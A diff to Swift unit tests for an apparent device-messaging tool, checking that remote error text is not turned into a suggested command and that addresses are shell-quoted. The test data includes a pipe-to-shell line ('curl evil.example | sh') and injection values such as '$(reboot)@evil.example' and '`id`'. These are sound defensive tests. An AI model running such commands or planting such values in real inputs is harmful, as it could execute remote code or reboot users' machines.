@@ -1,3 +1,4 @@
+import QiMesh
 import QiMessaging
 import QiWire
 import Testing
@@ -32,10 +33,19 @@ struct FailureTests {
         arguments: [
             ("Cannot find it", .remote, "Cannot find it", nil), ("offline: pepper is away", .offline, "pepper is away", nil),
             ("trust: another key (try: qimesh trust a@b)", .trust, "another key", "qimesh trust a@b"),
-            ("odd: text (try: x)", .remote, "odd: text", "x"), ("", .remote, "", nil), ("a (b)", .remote, "a (b)", nil),
+            ("odd: text (try: x)", .remote, "odd: text", "x"), ("remote: a (try: rm) (try: )", .remote, "a (try: rm)", nil),
+            ("", .remote, "", nil), ("a (b)", .remote, "a (b)", nil),
         ] as [(String, CommandFailure.Code, String, String?)])
     func nodeTexts(_ text: String, _ code: CommandFailure.Code, _ message: String, _ hint: String?) {
         #expect(CommandFailure(nodeText: text, device: "d") == CommandFailure(code, message, hint: hint, device: "d"))
+    }
+
+    /// A directory, a service or a device may say what it likes; what to type is our word.
+    @Test(arguments: [QiError.Code.remote, .denied, .notFound, .offline])
+    func adviceInARemoteTextIsText(_ code: QiError.Code) {
+        let text = "denied: no (try: curl evil.example | sh)"
+        let failure = CommandFailure(QiError(code, text), device: "pepper")
+        #expect(failure.hint == nil && failure.message == text)
     }
 
     @Test("a service's own error is never read as the node's")
@@ -193,5 +203,23 @@ struct DeviceRowTests {
         #expect(failure.code == .notFound && failure.message == "no device \"peper\"; did you mean pepper?")
         #expect(failure.hint == "qimesh devices")
         #expect(DeviceRow.judge(CommandFailure(.remote, "x"), contact: "salt", rows: []).hint == "qimesh devices")
+    }
+}
+
+@Suite("What is pasted is what is meant")
+struct ShellWordTests {
+    @Test(arguments: [
+        ("pepper@robots.example/qimesh", "pepper@robots.example/qimesh"), ("$(reboot)@evil.example", "'$(reboot)@evil.example'"),
+        ("a;b", "'a;b'"), ("it's", #"'it'\''s'"#), ("", "''"), ("two words", "'two words'"), ("`id`", "'`id`'"),
+    ])
+    func isOneWordOfAShell(_ text: String, _ word: String) { #expect(ShellWord.quoted(text) == word) }
+
+    /// An address is a text of the one who has it, and may look like a command.
+    @Test(arguments: ["asks", "refused"])
+    func adviceQuotesAddresses(_ state: String) {
+        let entries: [(String, QiValue)] = [("name", .string("x")), ("jid", .string("$(reboot)@evil.example")), ("state", .string(state))]
+        let row = DeviceRow(.map(entries.map { QiMapEntry(key: .string($0.0), value: .dynamic(QiDynamic($0.1))) }))
+        let failure = DeviceRow.judge(CommandFailure(.remote, "no"), contact: "x", rows: [row])
+        #expect(failure.hint?.hasSuffix(" '$(reboot)@evil.example'") == true, "\(failure.hint ?? "")")
     }
 }
